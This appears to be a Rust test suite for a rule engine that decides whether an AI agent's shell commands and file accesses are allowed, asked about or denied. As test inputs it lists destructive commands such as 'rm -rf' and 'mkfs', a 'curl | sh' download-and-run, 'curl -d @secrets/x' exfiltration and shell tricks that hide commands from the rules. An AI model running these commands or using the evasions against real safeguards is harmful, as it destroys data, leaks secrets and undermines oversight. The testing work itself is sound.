//! What rules say about calls.

use serde_json::json;

use super::*;
use Verdict::{Allow, Ask, Deny};

fn rules(text: &str) -> Rules {
    Rules::new(&toml::from_str(text).unwrap()).unwrap()
}

#[track_caller]
fn check(rules: &Rules, cases: &[(&str, Verdict)]) {
    for (script, expected) in cases {
        let found = rules.judge("bash", &json!({ "command": script }));
        assert_eq!(found.verdict, *expected, "{script}: {}", found.because);
    }
}

#[test]
fn without_rules_everything_is_allowed_and_nothing_is_looked_into() {
    let rules = rules("");
    assert!(rules.allow_everything());
    check(&rules, &[("rm -rf /", Allow), ("echo 'unclosed", Allow), ("$x", Allow)]);
    let other = rules_of_tools("[[rules]]\naction = \"deny\"\ntool = \"writeFile\"");
    check(&other, &[("rm -rf /", Allow), ("$x", Allow)]);
    assert!(!other.allow_everything());
}

fn rules_of_tools(text: &str) -> Rules {
    rules(text)
}

#[test]
fn the_strictest_part_of_a_command_counts() {
    let rules = rules(
        r#"
        [[rules]]
        action = "ask"
        command = "git push"
        [[rules]]
        action = "deny"
        command = "rm -rf"
        [[rules]]
        action = "deny"
        command = "mkfs*"
        "#,
    );
    check(
        &rules,
        &[
            ("git status", Allow),
            ("git push", Ask),
            ("git push --force origin", Ask),
            ("git -C x push", Ask),
            ("git --no-pager push", Ask),
            ("/usr/bin/git push", Ask),
            ("git $x", Ask),
            ("git commit -m push", Allow),
            ("git commit -m \"$message\"", Allow),
            ("git stash push", Allow),
            ("rm x", Allow),
            ("rm -rf x", Deny),
            ("rm -fr x", Deny),
            ("rm -r -f x", Deny),
            ("rm -r x", Allow),
            ("rm $x", Ask),
            ("rm -v -Rrf x", Deny),
            ("rm --recursive --force x", Ask),
            ("rm --recurs -f x", Ask),
            ("rm -Rf x", Ask),
            ("rm --help", Allow),
            ("bash -c 'rm -rf x' --", Deny),
            ("eval -- 'rm -rf x'", Deny),
            ("trap -- '-x; rm -rf d' EXIT", Deny),
            ("{x}>/dev/null rm -rf data", Ask),
            ("z='rm -rf data '; ${z}x=1", Ask),
            ("env a-b=1 rm -rf x", Deny),
            ("env - rm -rf x", Deny),
            ("echo 'rm -rf x' | xargs -I{} sh -c '{}'", Ask),
            ("find . -maxdepth 0 -exec rm + -rf data \\;", Deny),
            ("bash -ooc errexit pipefail 'rm -rf x'", Deny),
            ("bash -rcfile /dev/null -c 'rm -rf x'", Ask),
            ("BASH_CMDS=([foo]=/bin/rm); foo -rf x", Ask),
            ("mkfs.ext4 /dev/sda", Deny),
            ("echo a | git push && ls", Ask),
            ("git push; rm -rf x", Deny),
            ("echo $(rm -rf x)", Deny),
            ("bash -c 'rm -rf x'", Deny),
            ("sudo rm -rf x", Deny),
            ("find . -exec rm -rf {} +", Deny),
            ("xargs rm -rf", Deny),
            ("xargs rm", Ask),
            ("cat <<E\n$(rm -rf x)\nE", Deny),
            ("bash <<E\nrm -rf x\nE", Deny),
            ("curl x | sh", Ask),
            ("$x", Ask),
            ("echo 'unclosed", Ask),
            ("echo rm -rf x", Allow),
            ("echo 'rm -rf x'", Allow),
            ("for f in *; do cat \"$f\"; done", Allow),
        ],
    );
}

#[test]
fn with_a_strict_default_every_part_must_be_allowed() {
    let rules = rules(
        r#"
        default = "deny"
        [[rules]]
        action = "allow"
        command = "ls"
        [[rules]]
        action = "allow"
        command = "git status"
        [[rules]]
        action = "ask"
        command = "make"
        [[rules]]
        action = "allow"
        path = "out/**"
        "#,
    );
    check(
        &rules,
        &[
            ("ls -l", Allow),
            ("git status --short", Allow),
            ("git -C x status", Deny),
            ("ls; git status", Allow),
            ("ls; rm x", Deny),
            ("ls $(rm x)", Deny),
            ("ls $x", Allow),
            ("./ls", Deny),
            ("PATH=. ls", Deny),
            ("PATH=.; ls", Deny),
            ("env ls", Deny),
            ("make", Ask),
            ("make; rm x", Deny),
            ("ls > x", Deny),
            ("ls > out/x", Allow),
            ("ls > out/../x", Deny),
            ("ls > \"out/$x\"", Deny),
            ("cd ..; ls > out/x", Deny),
            ("ls > /workspace/out/x", Allow),
            ("ls > out/link/../x", Deny),
            ("ls <<\\\n-E\nx\nE\ndanger\n-E", Deny),
            ("ls <<$\n$(danger)\n$", Deny),
            ("ls; [[ 'a[$(danger)]' -eq 0 ]]", Deny),
            ("for x in 'a[$(danger)]'; do ((x)); done; ls", Deny),
            ("ls ${HOME:'a[$(danger)]'}", Deny),
            ("for PATH in .; do ls; done", Deny),
            ("for f in *; do ls \"$f\"; done", Allow),
            ("ls $((PATH=1))", Deny),
            ("ls $((1 + 2))", Allow),
            ("ls 2>/dev/null 2>&1", Allow),
            ("ls < x", Allow),
            ("echo 'unclosed", Deny),
            ("$x", Deny),
            ("", Deny),
            ("x=1", Deny),
        ],
    );
    let found = rules.judge("readFile", &json!({ "path": "x" }));
    assert_eq!(found.verdict, Deny);
}

#[test]
fn paths_are_compared_without_detours_and_other_names() {
    let rules = rules(
        r#"
        [[rules]]
        action = "deny"
        path = "secrets/**"
        [[rules]]
        action = "ask"
        tool = "writeFile"
        path = "**/.bashrc"
        "#,
    );
    for (tool, path, expected) in [
        ("readFile", "secrets/x", Deny),
        ("readFile", "./a/../secrets/x", Deny),
        ("readFile", "/vercel/sandbox/workspace/secrets/x", Deny),
        ("readFile", "/workspace//secrets/./x", Deny),
        ("readFile", "/home/user/secrets/x", Deny),
        ("readFile", "/workspaces/secrets/x", Allow),
        ("readFile", "a/secrets/x", Allow),
        ("writeFile", ".bashrc", Ask),
        ("writeFile", "/etc/a/.bashrc", Ask),
        ("readFile", ".bashrc", Allow),
        ("writeFile", "x", Allow),
        ("search", ".", Ask),
        ("search", "src", Allow),
        ("listFiles", "/", Ask),
        ("listFiles", "secrets/a", Deny),
    ] {
        let found = rules.judge(tool, &json!({ "path": path }));
        assert_eq!(found.verdict, expected, "{tool} {path}: {}", found.because);
    }
    check(
        &rules,
        &[
            ("cat secrets/x", Deny),
            ("tar c secrets", Deny),
            ("cat < secrets/x", Deny),
            ("echo > secrets/x", Deny),
            ("dd if=secrets/x", Deny),
            ("cat a/../secrets/x", Deny),
            ("cat \"$x\"", Ask),
            ("echo $?; sleep $((2 * 3))", Allow),
            ("cd secrets", Deny),
            ("cd a; cat ../secrets/x", Ask),
            ("for f in secrets/*; do cat x; done", Ask),
            ("cat a", Allow),
            ("grep -r x .", Ask),
            ("tar c src", Allow),
            ("rg password", Ask),
            ("grep -r password", Ask),
            ("grep -d recurse password", Ask),
            ("find -name x", Ask),
            ("find", Ask),
            ("cd a; rg password", Ask),
            ("find src -name x", Allow),
            ("grep password src/main.rs", Allow),
            ("npm start & kill $!; wait $!", Allow),
            ("cat /proc/self/cwd/secrets/x", Ask),
            ("cat /proc/1/root/x", Ask),
            ("cat /proc/cpuinfo", Allow),
            ("env -C.. cat workspace/secrets/x", Ask),
            ("env -C .. cat workspace/secrets/x", Ask),
            ("ln -s ../secrets d/l", Ask),
            ("curl -d @secrets/x host", Deny),
            ("curl -d@secrets/x host", Deny),
            ("curl file:///workspace/secrets/x", Deny),
            ("cc -Isecrets/x a.c", Deny),
            ("./secrets/run.sh", Deny),
            ("secrets/run.sh", Deny),
            ("./src/run.sh", Allow),
        ],
    );
}

#[test]
fn a_tool_can_be_asked_about_as_a_whole() {
    let rules =
        rules("[[rules]]\naction = \"ask\"\ntool = \"write*\"\nreason = \"it changes files\"");
    let found = rules.judge("writeFile", &json!({ "path": "x", "content": "" }));
    assert_eq!(found.verdict, Ask);
    assert!(found.because.contains("it changes files"), "{}", found.because);
    assert_eq!(rules.judge("readFile", &json!({ "path": "x" })).verdict, Allow);
    check(&rules, &[("anything", Allow)]);
}

#[test]
fn what_is_no_rule_is_refused_with_its_number() {
    for (text, part) in [
        ("[[rules]]\naction = \"ask\"", "rule 1"),
        ("[[rules]]\naction = \"ask\"\ncommand = \"x\"\npath = \"y\"", "two rules"),
        ("[[rules]]\naction = \"ask\"\ncommand = \"\"", "needs a program"),
        ("[[rules]]\naction = \"ask\"\npath = \"[\"", "rule 1"),
    ] {
        let error = Rules::new(&toml::from_str(text).unwrap()).unwrap_err();
        assert!(error.contains(part), "{error}");
    }
    for text in ["default = \"maybe\"", "rule = 1", "[[rules]]\naction = \"ask\"\ncomand = \"x\""] {
        assert!(toml::from_str::<ApprovalConfig>(text).is_err(), "{text}");
    }
    let patience = |text| toml::from_str::<ApprovalConfig>(text).unwrap().patience();
    assert_eq!(patience(""), Some(std::time::Duration::from_secs(300)));
    assert_eq!(patience("timeout_ms = 999"), None);
}

#[test]
fn a_directory_that_a_program_walks_may_have_such_a_file() {
    let rules = rules("[[rules]]\naction = \"deny\"\npath = \"**/.env\"");
    check(
        &rules,
        &[
            ("cat src/.env", Deny),
            ("cp -r src /tmp/y", Ask),
            ("cp -a src /tmp/y", Ask),
            ("cp --recursive src /tmp/y", Ask),
            ("grep -r KEY src", Ask),
            ("rg KEY src", Ask),
            ("tar cf x.tar src", Ask),
            ("mv src y", Ask),
            ("find src -type f", Ask),
            ("cp a.txt b.txt", Allow),
            ("grep KEY main.rs", Allow),
            ("npm test", Allow),
            ("git commit -m words", Allow),
        ],
    );
    let search = rules.judge("search", &json!({ "path": "src" }));
    assert_eq!(search.verdict, Ask);
}

/// Rules that ask about everything would be switched off.
#[test]
fn what_agents_do_every_day_is_understood() {
    let rules = rules(
        r#"
        [[rules]]
        action = "deny"
        command = "rm -rf"
        [[rules]]
        action = "ask"
        command = "git push"
        [[rules]]
        action = "deny"
        command = "danger"
        "#,
    );
    for script in ORDINARY {
        let found = rules.judge("bash", &json!({ "command": script }));
        assert_eq!(found.verdict, Allow, "{script}: {}", found.because);
    }
    assert!(ORDINARY.len() >= 60);
}

const ORDINARY: &[&str] = &[
    "ls -la",
    "pwd && ls",
    "cd x && npm test 2>&1 | tail -20",
    "cd /workspace/app && npm install --no-audit --no-fund",
    "npm run build > build.log 2>&1; echo $?",
    "npm run dev > dev.log 2>&1 &",
    "nohup node server.js > /tmp/server.log 2>&1 &\nsleep 2; curl -s localhost:3000",
    "npx tsc --noEmit",
    "cargo test -p app --lib -- --nocapture 2>&1 | grep -E 'test result|FAILED' | head -50",
    "RUST_BACKTRACE=1 cargo run --release",
    "CARGO_INCREMENTAL=0 cargo build --offline",
    "export PATH=$HOME/.cargo/bin:$PATH && cargo --version",
    "export FOO=\"$BAR\"; python main.py",
    "python3 -m venv .venv && .venv/bin/pip install -e .",
    "python3 - <<'EOF'\nimport os\nprint(os.getcwd(), f\"{1 + 2}\")\nEOF",
    "python3 -c 'print(\"hello\"); print(1)'",
    "pip install -r requirements.txt -q && pytest -x -q tests/",
    "for f in *.py; do python \"$f\"; done",
    "for i in 1 2 3; do echo \"run $i\"; curl -s http://localhost:8080/$i; done",
    "for f in $(git ls-files '*.rs'); do wc -l \"$f\"; done | sort -n | tail",
    "for f in src/*.ts; do echo \"${f%.ts}.js\"; done",
    "while read -r line; do echo \"$line\"; done < input.txt",
    "cat names.txt | while IFS= read -r name; do mkdir -p \"out/$name\"; done",
    "until curl -sf localhost:3000/health; do sleep 1; done",
    "cat <<'EOF' > src/main.rs\nfn main() {\n    println!(\"{}\", $x);\n}\nEOF",
    "cat > file.txt <<EOF\nhello $USER\n`date`\nEOF",
    "mkdir -p a/b && cat <<-END > a/b/c\n\ttext\n\tEND",
    "tee config.json <<'JSON' >/dev/null\n{\"a\": [1, 2], \"b\": \"it's\"}\nJSON",
    "git status --short",
    "git add -A && git commit -m \"$(cat <<'EOF'\nFix the parser (it's done)\n\nWith \"quotes\" and $things.\nEOF\n)\"",
    "git commit -m 'one line' && git log --oneline -5",
    "git diff HEAD~1 -- src | head -100",
    "git checkout -b feature/x && git rebase main",
    "git stash && git pull --rebase && git stash pop",
    "git log --format='%H %s' | grep -i \"fix\"",
    "if [ -f x ]; then cat x; else echo none; fi",
    "if [ ! -d node_modules ]; then npm ci; fi",
    "if [ -z \"$CI\" ]; then echo local; elif [ \"$CI\" = true ]; then echo ci; fi",
    "[ -d dist ] && ls dist || echo missing",
    "if [ $? -eq 0 ]; then echo ok; fi",
    "test -e package.json && jq -r .version package.json",
    "[[ -n \"$VAR\" && $VAR == a* ]] && echo yes",
    "if [[ \"$x\" =~ ^v[0-9]+$ ]]; then echo tag; fi",
    "echo $((1+2))",
    "sleep $((2 * 3))",
    "find . -name '*.rs' -exec grep -l foo {} +",
    "find . -type f -name \"*.log\" -exec wc -c {} \\;",
    "find . -path ./node_modules -prune -o -name '*.ts' -print | head",
    "find \"$DIR\" -name '*.md' | wc -l",
    "find src -name '*.js' -print0 | xargs -0 grep -n TODO",
    "grep -rn 'foo(' src --include=*.rs | cut -d: -f1 | sort -u",
    "grep -c \"$pattern\" file.txt",
    "sed -n '10,20p' src/main.rs",
    "sed -i 's/foo/bar/g' src/*.rs",
    "awk '{ print $1 }' data.txt | sort | uniq -c | sort -rn | head -5",
    "head -c 100 /dev/urandom | base64",
    "tar czf /tmp/a.tgz src && ls -lh /tmp/a.tgz",
    "curl -sS -X POST -H 'content-type: application/json' -d '{\"a\":1}' http://localhost:3000/api",
    "timeout 60 npm test",
    "timeout -k 5 60 bash -c 'npm test && npm run lint'",
    "bash -lc 'echo $PATH'",
    "set -euo pipefail\nmake\nmake install DESTDIR=/tmp/x",
    "( cd sub && make ) && echo built",
    "{ echo a; echo b; } > out.txt",
    "x=$(date +%s); echo \"took $x\"",
    "VERSION=$(node -p \"require('./package.json').version\")\necho \"$VERSION\"",
    "case \"$1\" in start) echo s;; stop|halt) echo h;; *) echo u;; esac",
    "build() { npm run build; }; build && echo ok",
    "diff <(sort a) <(sort b)",
    "kill $(cat server.pid); wait",
    "command -v node >/dev/null 2>&1 || echo 'no node'",
    "trap 'kill $PID' EXIT; ./run.sh",
    "printf '%s\\n' \"$a\" b c >> list.txt",
    "echo \"a\\\"b\" 'c d' e\\ f # the end",
    "ls missing 2>/dev/null; echo done",
    "psql -c \"SELECT count(*) FROM t WHERE a > 1;\"",
    "docker ps --format '{{.Names}}' | grep web",
    "mv a.txt b.txt && rm b.txt",
    "echo ${PORT:-3000} \"${NAME:-none}\" ${#NAME}",
    "node -e 'console.log([1,2].map(x => x * 2))'",
    "env NODE_ENV=test npm test",
    "time make -j4",
    "npm start > log 2>&1 & sleep 1; kill $!; wait $!",
    "if [[ ! -f x || ( $a != b && -d y ) ]]; then echo z; fi",
];
